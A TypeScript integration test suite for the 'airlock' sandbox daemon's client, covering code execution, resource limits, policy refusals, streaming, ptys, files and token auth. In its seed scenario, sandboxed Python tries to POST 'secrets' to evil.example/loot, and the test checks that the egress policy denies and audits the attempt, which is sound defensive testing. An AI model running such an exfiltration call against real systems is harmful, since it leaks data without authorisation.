// The TypeScript client against a real daemon: one `airlock serve` for the
// whole file, on a socket in a temporary directory, with an operator
// policy that allows loopback egress to a name the test maps and caps
// memory at 1G (so that a request for more is refused with reasons).
// Needs root (the daemon's sandboxes), as CI runs it. AIRLOCK_BIN names
// the built airlock; AIRLOCK_TS_EXAMPLE the docs' example, compiled.

import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { ChildProcess, spawn, spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as http from 'node:http';
import type { AddressInfo } from 'node:net';
import * as os from 'node:os';
import * as path from 'node:path';

import {
  AirlockError,
  CommandExitError,
  FileType,
  LimitError,
  NotFoundError,
  OutputMessage,
  PolicyError,
  Sandbox,
  SandboxGoneError,
} from '../src/index.js';
import { Transport } from '../src/http.js';

const airlock = process.env['AIRLOCK_BIN'] ?? '';
let dir = '';
let socket = '';
let daemon: ChildProcess | undefined;
let logPath = '';
// The same daemon on loopback TCP with a bearer token (identity token:ts).
let tcpUrl = '';
const token = 'ts-client-test-token-0123456789';
// The loopback server the sandboxes may reach (as report.test), and what
// it received.
let server: http.Server | undefined;
let port = 0;
const received: string[] = [];

function healthy(): Promise<boolean> {
  return new Promise((resolve) => {
    const req = http.request({ socketPath: socket, path: '/v1/health', method: 'GET', agent: false }, (res) => {
      res.resume();
      resolve(res.statusCode === 200);
    });
    req.on('error', () => resolve(false));
    req.end();
  });
}

function exited(p: ChildProcess, ms: number): Promise<boolean> {
  if (p.exitCode !== null || p.signalCode !== null) return Promise.resolve(true);
  return new Promise((resolve) => {
    const t = setTimeout(() => resolve(false), ms);
    p.once('exit', () => {
      clearTimeout(t);
      resolve(true);
    });
  });
}

before(async () => {
  assert.ok(airlock && fs.existsSync(airlock), `AIRLOCK_BIN (${airlock}) is not the built airlock`);
  server = http.createServer((req, res) => {
    let body = '';
    req.on('data', (c: Buffer) => (body += c.toString()));
    req.on('end', () => {
      received.push(`${req.method} ${req.url} ${body}`);
      res.end('stored\n');
    });
  });
  await new Promise<void>((resolve) => server!.listen(0, '127.0.0.1', resolve));
  port = (server.address() as AddressInfo).port;
  dir = fs.mkdtempSync(path.join(os.tmpdir(), 'airlock-ts-'));
  fs.chmodSync(dir, 0o755);
  socket = path.join(dir, 's');
  const op = path.join(dir, 'operator.json');
  fs.writeFileSync(
    op,
    JSON.stringify({
      version: 1,
      profiles: {
        default: {
          limits: { memory: { max: '1G' } },
          network: { allow: ['report.test:*', 'analysis.internal:8080'], hosts: ['127.0.0.1'] },
          env: { allow: ['APP_*', 'PS1'] },
        },
      },
      serve: { identities: { 'token:ts': { profiles: ['default'] } } },
    }),
  );
  fs.chmodSync(op, 0o644);
  const tokens = path.join(dir, 'tokens');
  fs.writeFileSync(tokens, `${token} ts\n`, { mode: 0o600 });
  // A free loopback port: bound by us, closed, then given to the daemon.
  const probe = http.createServer();
  await new Promise<void>((resolve) => probe.listen(0, '127.0.0.1', resolve));
  const tcpPort = (probe.address() as AddressInfo).port;
  await new Promise((resolve) => probe.close(resolve));
  tcpUrl = `http://127.0.0.1:${tcpPort}`;
  logPath = path.join(dir, 'log');
  const log = fs.openSync(logPath, 'w');
  daemon = spawn(airlock, ['serve', '--socket', socket, '--operator-policy', op, '--listen', `127.0.0.1:${tcpPort}`, '--token-file', tokens], { stdio: ['ignore', log, log] });
  fs.closeSync(log);
  // Its readiness: the health answer, asked every 50 ms for at most 10 s.
  for (let i = 0; i < 200 && daemon.exitCode === null; i++) {
    if (await healthy()) return;
    await new Promise((r) => setTimeout(r, 50));
  }
  assert.fail(`the daemon did not answer in 10 s: ${fs.readFileSync(logPath, 'utf8')}`);
});

after(async () => {
  server?.close();
  if (daemon?.pid !== undefined) {
    daemon.kill('SIGTERM');
    if (!(await exited(daemon, 12_000))) {
      daemon.kill('SIGKILL');
      await exited(daemon, 5_000);
      // What a killed daemon left (cgroups, id slots).
      spawnSync(airlock, ['gc'], { stdio: 'inherit' });
    }
  }
  if (dir) fs.rmSync(dir, { recursive: true, force: true });
});

// Each case ends within this even when the client hangs, so a failure is
// a failure and not the suite's timeout.
const bounded = { timeout: 90_000 };

function policy(): Record<string, unknown> {
  return { network: { allow: [`report.test:${port}`], hosts: { 'report.test': '127.0.0.1' } } };
}

const CSV = [
  'date,region,units,unit_price',
  '2024-01-07,East,11,39.90',
  '2024-01-09,West,6,19.99',
  '2024-01-12,West,10,39.90',
  '2024-01-15,East,3,19.99',
].join('\n');

test('seed scenario: upload, three runs keeping files, report back, exfiltration denied', bounded, async () => {
  const sbx = await Sandbox.create({ socket, policy: policy(), timeoutMs: 120_000, metadata: { job: 'ts-seed' } });
  try {
    await sbx.files.write('/work/sales.csv', CSV);
    const load = await sbx.runCode(
      "import csv, json\nrows = list(csv.DictReader(open('/work/sales.csv')))\njson.dump(rows, open('/work/rows.json', 'w'))\nlen(rows)",
    );
    assert.equal(load.error, undefined, JSON.stringify(load));
    assert.equal(load.text, '4');
    const sum = await sbx.runCode(
      [
        'import json, urllib.request',
        "rows = json.load(open('/work/rows.json'))",
        'by = {}',
        'for r in rows:',
        "    by[r['region']] = by.get(r['region'], 0) + int(r['units']) * float(r['unit_price'])",
        "json.dump(by, open('/work/by_region.json', 'w'))",
        `print(urllib.request.urlopen('http://report.test:${port}/totals', data=json.dumps(by).encode(), timeout=10).read().decode().strip())`,
        'try:',
        "    urllib.request.urlopen('http://evil.example/loot', data=b'secrets', timeout=10)",
        "    print('EXFIL SENT')",
        'except Exception as e:',
        "    print('exfil failed:', type(e).__name__)",
      ].join('\n'),
    );
    assert.equal(sum.error, undefined, JSON.stringify(sum));
    const out = sum.logs.stdout.join('');
    assert.match(out, /^stored$/m, out);
    assert.match(out, /exfil failed/, out);
    assert.doesNotMatch(out, /EXFIL SENT/);
    assert.ok(
      sum.denials.some((d) => JSON.stringify(d).includes('evil.example')),
      `no denial names evil.example: ${JSON.stringify(sum.denials)}`,
    );
    assert.equal(received.length, 1, `the loopback server got: ${JSON.stringify(received)}`);
    assert.match(received[0]!, /^POST \/totals \{"East": 498\.8\d*, "West": 518\.9\d*\}$/);
    const rep = await sbx.runCode(
      [
        'import json',
        "by = json.load(open('/work/by_region.json'))",
        "with open('/work/report.md', 'w') as f:",
        "    f.write('# Sales by region\\n\\n')",
        '    for k in sorted(by):',
        "        f.write('- %s: %.2f\\n' % (k, by[k]))",
      ].join('\n'),
    );
    assert.equal(rep.error, undefined, JSON.stringify(rep));
    const report = await sbx.files.read('/work/report.md');
    assert.equal(report, '# Sales by region\n\n- East: 498.87\n- West: 518.94\n');
    const audit = await sbx.audit();
    assert.ok(audit.some((l) => l['decision'] === 'deny' && JSON.stringify(l).includes('evil.example')));
    const listed = await Sandbox.list({ socket, metadata: { job: 'ts-seed' } });
    assert.deepEqual(
      listed.map((s) => s.sandboxId),
      [sbx.sandboxId],
    );
  } finally {
    await sbx.kill();
  }
});

test('a variable set in one runCode is read in the next; an exception is a result, not a throw', bounded, async () => {
  const sbx = await Sandbox.create({ socket });
  try {
    await sbx.runCode('x = 41');
    const r = await sbx.runCode('x + 1');
    assert.equal(r.text, '42');
    assert.deepEqual(r.results, [{ text: '42' }]);
    const bad = await sbx.runCode('1 / 0');
    assert.equal(bad.error?.name, 'ZeroDivisionError');
    assert.match(bad.error?.traceback ?? '', /ZeroDivisionError/);
    // A context of its own does not share the default one's variables.
    const ctx = await sbx.createCodeContext({ language: 'python' });
    const other = await sbx.runCode("'x' in globals()", { context: ctx });
    assert.equal(other.text, 'False');
    assert.ok((await sbx.listCodeContexts()).some((c) => c.id === ctx.id));
    // Node's context: its completion value, util.inspect'ed.
    await sbx.runCode('let y = 5', { language: 'node' });
    const n = await sbx.runCode('({ twice: y * 2 })', { language: 'node' });
    assert.equal(n.text, '{ twice: 10 }');
    await sbx.removeCodeContext(ctx);
    assert.ok(!(await sbx.listCodeContexts()).some((c) => c.id === ctx.id));
  } finally {
    await sbx.kill();
  }
});

test('a limit hit throws LimitError with its reason', bounded, async () => {
  const sbx = await Sandbox.create({ socket });
  try {
    await assert.rejects(sbx.commands.run('sleep 30', { timeoutMs: 300 }), (e: unknown) => {
      assert.ok(e instanceof LimitError, String(e));
      assert.equal(e.reason, 'timeout');
      return true;
    });
    // At most 128 MiB is ever asked for, under an exec limit of 32M.
    await assert.rejects(
      sbx.commands.run("python3 -c 'a = [bytearray(1 << 20) for i in range(128)]'", { memory: '32M' }),
      (e: unknown) => e instanceof LimitError && e.reason === 'memory',
    );
    await sbx.runCode('kept = 1');
    await assert.rejects(sbx.runCode('import time\ntime.sleep(30)', { timeoutMs: 300 }), (e: unknown) => {
      assert.ok(e instanceof LimitError, String(e));
      assert.equal(e.reason, 'timeout');
      assert.equal((e.result as { restarted: boolean }).restarted, true);
      return true;
    });
    // Its state went with the interpreter.
    const r = await sbx.runCode("'kept' in globals()");
    assert.equal(r.text, 'False');
  } finally {
    await sbx.kill();
  }
});

test('a request the operator policy refuses throws PolicyError with the engine reasons', bounded, async () => {
  await assert.rejects(Sandbox.create({ socket, policy: { limits: { memory: '2G' } } }), (e: unknown) => {
    assert.ok(e instanceof PolicyError, String(e));
    assert.equal(e.status, 403);
    assert.match(e.message, /memory/);
    assert.ok(
      e.reasons.some((r) => r.includes('memory')),
      JSON.stringify(e.reasons),
    );
    return true;
  });
  await assert.rejects(Sandbox.create({ socket, policy: { network: { allow: ['evil.example:443'] } } }), (e: unknown) => {
    assert.ok(e instanceof PolicyError, String(e));
    assert.ok(
      e.reasons.some((r) => r.includes('evil.example')),
      JSON.stringify(e.reasons),
    );
    return true;
  });
});

test('streaming callbacks get output before the command ends; background handles', bounded, async () => {
  const sbx = await Sandbox.create({ socket });
  try {
    await sbx.commands.run('mkfifo /work/go');
    const seen: string[] = [];
    let wrote: Promise<unknown> | undefined;
    // The command cannot go past `cat` until the test writes the FIFO,
    // which it does only once the callback has seen line 1.
    const r = await sbx.commands.run('echo line1; cat /work/go; echo line3', {
      timeoutMs: 20_000,
      onStdout: (d) => {
        seen.push(d);
        if (wrote === undefined && seen.join('').includes('line1\n')) {
          seen.push('<wrote>');
          wrote = sbx.commands.run('echo line2 > /work/go');
        }
      },
    });
    await wrote;
    assert.equal(r.exitCode, 0);
    assert.equal(r.stdout, 'line1\nline2\nline3\n');
    const text = seen.join('');
    assert.ok(text.indexOf('line1') < text.indexOf('<wrote>') && text.indexOf('<wrote>') < text.indexOf('line2'), text);

    const cat = await sbx.commands.run('cat', { background: true });
    await cat.sendStdin('hello\n', true);
    const done = await cat.wait();
    assert.equal(done.stdout, 'hello\n');
    // Nothing left to kill: false, as for an exec the sandbox never had.
    assert.equal(await cat.kill(), false);
    assert.equal(await sbx.commands.kill('e999'), false);
    // A background command's output followed to callbacks.
    const outs: string[] = [];
    const errs: string[] = [];
    const bg = await sbx.commands.run('echo out; echo err >&2', {
      background: true,
      onStdout: (d) => outs.push(d),
      onStderr: (d) => errs.push(d),
    });
    const bgr = await bg.wait();
    assert.deepEqual([outs.join(''), errs.join(''), bgr.stdout, bgr.stderr], ['out\n', 'err\n', 'out\n', 'err\n']);
    const sleeper = await sbx.commands.run('sleep 30', { background: true });
    assert.equal(await sleeper.kill(), true);
    await assert.rejects(sleeper.wait(), (e: unknown) => e instanceof CommandExitError && e.reason === 'killed');
    await assert.rejects(sbx.commands.run('exit 3'), (e: unknown) => e instanceof CommandExitError && e.exitCode === 3);
  } finally {
    await sbx.kill();
  }
});

test('a pty is typed to and resized (stty size)', bounded, async () => {
  const sbx = await Sandbox.create({ socket });
  try {
    let text = '';
    let waiter: { want: string; resolve: () => void } | undefined;
    const until = (want: string): Promise<void> =>
      new Promise((resolve) => {
        if (text.includes(want)) resolve();
        else waiter = { want, resolve };
      });
    const t = await sbx.pty.create({
      rows: 30,
      cols: 100,
      envs: { PS1: '$ ' },
      onData: (d) => {
        text += Buffer.from(d).toString();
        if (waiter && text.includes(waiter.want)) waiter.resolve();
      },
    });
    await t.sendStdin('stty size\n');
    await until('30 100');
    await t.resize({ rows: 40, cols: 120 });
    await t.sendStdin('stty size\n');
    await until('40 120');
    await t.sendStdin('exit 0\n');
    const end = await t.wait();
    assert.equal(end.exitCode, 0);
  } finally {
    await sbx.kill();
  }
});

test('file bytes round trip, listing, exists, makeDir and remove', bounded, async () => {
  const sbx = await Sandbox.create({ socket });
  try {
    // The default lifetime is E2B's 300 s.
    const left = ((await sbx.getInfo()).endAt?.getTime() ?? 0) - Date.now();
    assert.ok(left > 250_000 && left <= 300_000, `lifetime left ${left} ms`);
    const bytes = new Uint8Array(70_000).map((_, i) => (i * 7) % 256);
    const w = await sbx.files.write('/work/a/b/data.bin', bytes);
    assert.equal(w.size, bytes.length);
    assert.deepEqual(await sbx.files.read('/work/a/b/data.bin', { format: 'bytes' }), bytes);
    const entries = await sbx.files.list('/work/a/b');
    assert.deepEqual(
      entries.map((e) => [e.name, e.type, e.size, e.path]),
      [['data.bin', FileType.FILE, bytes.length, '/work/a/b/data.bin']],
    );
    assert.equal(await sbx.files.exists('/work/a/b/data.bin'), true);
    assert.equal(await sbx.files.exists('/work/a/none'), false);
    assert.equal(await sbx.files.exists('/work'), true);
    assert.equal(await sbx.files.makeDir('/work/x/y'), true);
    assert.equal(await sbx.files.makeDir('/work/x/y'), false);
    await sbx.files.write('rel.txt', 'relative to /work');
    assert.equal((await sbx.commands.run('cat /work/rel.txt')).stdout, 'relative to /work');
    await sbx.files.remove('/work/a');
    assert.equal(await sbx.files.exists('/work/a'), false);
    await assert.rejects(sbx.files.read('/work/a/b/data.bin'), NotFoundError);
  } finally {
    await sbx.kill();
  }
});

test('after kill every call throws SandboxGoneError', bounded, async () => {
  const sbx = await Sandbox.create({ socket, timeoutMs: 30_000 });
  await sbx.setTimeout(20_000);
  const info = await sbx.getInfo();
  assert.equal(info.sandboxId, sbx.sandboxId);
  assert.equal(info.state, 'running');
  assert.ok(info.endAt !== undefined && info.endAt.getTime() - Date.now() <= 20_000);
  assert.equal(await sbx.kill(), true);
  assert.equal(await sbx.kill(), false);
  await assert.rejects(sbx.commands.run('true'), SandboxGoneError);
  await assert.rejects(sbx.files.read('/work/x'), SandboxGoneError);
  await assert.rejects(sbx.getInfo(), SandboxGoneError);
  await assert.rejects(sbx.runCode('1'), SandboxGoneError);
  assert.equal(await sbx.isRunning(), false);
  assert.ok(!(await Sandbox.list({ socket })).some((s) => s.sandboxId === sbx.sandboxId));
});

test('loopback TCP with a bearer token; envs on create; a bad token refused', bounded, async () => {
  const sbx = await Sandbox.create({ url: tcpUrl, token, envs: { APP_MODE: 'tcp' } });
  try {
    const r = await sbx.commands.run('echo "$APP_MODE"');
    assert.equal(r.stdout, 'tcp\n');
    // Another identity's sandbox: not in the socket client's (uid 0) list.
    assert.ok((await Sandbox.list({ url: tcpUrl, token })).some((s) => s.sandboxId === sbx.sandboxId));
    assert.ok(!(await Sandbox.list({ socket })).some((s) => s.sandboxId === sbx.sandboxId));
  } finally {
    await sbx.kill();
  }
  await assert.rejects(Sandbox.list({ url: tcpUrl, token: 'not-the-token-0123456789' }), (e: unknown) => {
    assert.ok(e instanceof AirlockError, String(e));
    assert.equal(e.status, 401);
    return true;
  });
  assert.throws(() => new Transport({ url: tcpUrl }), /needs a token/);
});

// E2B programs as they are written for its SDK, ported with renames: what
// once needed more than a rename (docs/clients.md, "From E2B").
test('E2B port: runCode callbacks, commands.list, pty by id with raw bytes', bounded, async () => {
  const sbx = await Sandbox.create({ socket });
  try {
    const got: string[] = [];
    const ex = await sbx.runCode("import sys\nprint('to out')\nprint('to err', file=sys.stderr)\n6 * 7", {
      onStdout: (m: OutputMessage) => got.push(`out ${m.line} ${m.error}`),
      onStderr: (m: OutputMessage) => got.push(`err ${m.line} ${m.error}`),
      onResult: (r) => got.push(`result ${r.text}`),
      onError: (e) => got.push(`error ${e.name}`),
      requestTimeoutMs: 30_000,
    });
    assert.deepEqual(got, ['out to out\n false', 'err to err\n true', 'result 42']);
    assert.equal(ex.text, '42');
    got.length = 0;
    await sbx.runCode("{}['missing']", { onError: (e) => got.push(`error ${e.name}`) });
    assert.deepEqual(got, ['error KeyError']);
    // Output that is not UTF-8 comes as base64 from the daemon: decoded.
    const raw = await sbx.runCode("import sys; sys.stdout.buffer.write(b'a\\xffb'); sys.stdout.flush()");
    assert.equal(raw.logs.stdout.join(''), 'a\ufffdb');
    await assert.rejects(sbx.runCode('1', { envs: { A: 'b' } }), /createCodeContext/);

    const h = await sbx.commands.run('exec sleep 60', { background: true });
    const p = (await sbx.commands.list()).find((x) => x.pid === h.pid);
    assert.ok(p);
    // A command line runs as the daemon's `code` with language bash: its
    // argv as listed is bash's.
    assert.deepEqual([p.cmd, p.args, p.state], [p.argv[0], p.argv.slice(1), 'running']);
    assert.match(p.cmd, /bash$/);
    assert.equal(await sbx.commands.kill(h.pid), true);

    // E2B's stdin: true: taken with background (its stdin stays open),
    // refused without, naming why.
    const hs = await sbx.commands.run('head -c 3', { background: true, stdin: true });
    await hs.sendStdin('abc');
    assert.equal((await hs.wait()).stdout, 'abc');
    await assert.rejects(sbx.commands.run('cat', { stdin: true }), /background/);

    // A terminal typed to and resized by id (E2B's calls), also one this
    // client's Sandbox object did not make; onData gets the bytes as the
    // terminal wrote them, a byte that is not UTF-8 included (unfiltered:
    // the default filter would make it '?').
    const chunks: Uint8Array[] = [];
    const t = await sbx.pty.create({ rows: 24, cols: 80, ttyfilter: false, onData: (d) => chunks.push(d) });
    const other = await Sandbox.connect(sbx.sandboxId, { socket });
    await other.pty.resize(t.pid, { rows: 30, cols: 100 });
    await other.pty.sendInput(t.pid, new TextEncoder().encode("stty size; printf 'x\\377y\\n'; exit\n"));
    assert.equal((await t.wait()).exitCode, 0);
    const all = Buffer.concat(chunks);
    assert.ok(all.includes('30 100'), all.toString());
    assert.ok(all.includes(Buffer.from([0x78, 0xff, 0x79])), all.toString('hex'));
    await assert.rejects(other.pty.sendInput('e999', 'x'), NotFoundError);
  } finally {
    await sbx.kill();
  }
});

test('the example in the docs compiles and runs', bounded, () => {
  const example = process.env['AIRLOCK_TS_EXAMPLE'] ?? '';
  assert.ok(example && fs.existsSync(example), `AIRLOCK_TS_EXAMPLE (${example}) is not the compiled example`);
  const r = spawnSync(process.execPath, [example], {
    env: { ...process.env, AIRLOCK_SOCKET: socket },
    encoding: 'utf8',
    timeout: 120_000,
  });
  assert.equal(r.status, 0, `the example failed: ${r.stdout}\n${r.stderr}`);
  assert.match(r.stdout, /# Sales by region/);
  assert.match(r.stdout, /^exfiltration failed: /m);
  assert.match(r.stdout, /^denied: net\.connect evil\.example: /m);
});
